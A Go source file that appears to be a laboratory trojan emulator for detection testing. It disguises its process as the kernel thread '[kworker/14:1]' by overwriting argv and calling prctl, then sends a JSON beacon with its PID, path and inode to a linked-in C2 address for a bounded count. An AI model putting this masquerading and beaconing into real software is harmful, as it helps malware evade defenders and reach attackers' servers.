// Command trojan behaves like the trojan of the incident report and does no
// harm: it retitles itself as a kernel thread, says hello to its C2 once a
// second for a bounded time, and exits. With the argument memfd or deleted it does
// so as a copy of itself that has no file. The C2 address is linked in, so that
// every build has its own bytes. It runs in the laboratory's network namespace,
// which has no route to anywhere.
package main

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"runtime"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"baize/test/lab/beacon"
)

// Set by the linker.
var (
	c2    string
	title = "[kworker/14:1]"
	// beacons bounds the life: one a second.
	beacons = "10"
)

// init keeps main on the first thread, whose name is the process's.
func init() { runtime.LockOSThread() }

func main() {
	if len(os.Args) > 1 {
		fmt.Fprintln(os.Stderr, fileless(os.Args[1]))
		os.Exit(1)
	}
	hello := describe()
	if err := retitle(title); err != nil {
		os.Exit(1)
	}
	count, err := strconv.Atoi(beacons)
	if err != nil {
		os.Exit(2)
	}
	for range count {
		send(hello)
		time.Sleep(time.Second)
	}
}

// describe is what identifies this process, for the labels of the laboratory.
func describe() beacon.Hello {
	var image unix.Stat_t
	_ = unix.Stat("/proc/self/exe", &image)
	path, _ := os.Readlink("/proc/self/exe")
	return beacon.Hello{PID: os.Getpid(), Path: path, Inode: image.Ino, Device: image.Dev}
}

// retitle writes over the argument vector on the stack, as /proc/PID/cmdline
// shows it, and sets the thread's name to what a kernel thread of that title has.
func retitle(title string) error {
	arg := unsafe.Slice(unsafe.StringData(os.Args[0]), len(os.Args[0]))
	clear(arg)
	copy(arg, title)
	name := append([]byte(title[1:len(title)-1]), 0)
	_, _, errno := syscall.RawSyscall(unix.SYS_PRCTL, unix.PR_SET_NAME, uintptr(unsafe.Pointer(&name[0])), 0)
	runtime.KeepAlive(name)
	if errno != 0 {
		return errno
	}
	return nil
}

// send ignores every failure: a C2 that is cut off is not the trojan's problem.
func send(hello beacon.Hello) {
	connection, err := net.DialTimeout("tcp", c2, 500*time.Millisecond)
	if err != nil {
		return
	}
	defer connection.Close()
	_ = connection.SetDeadline(time.Now().Add(500 * time.Millisecond))
	_ = json.NewEncoder(connection).Encode(hello)
}
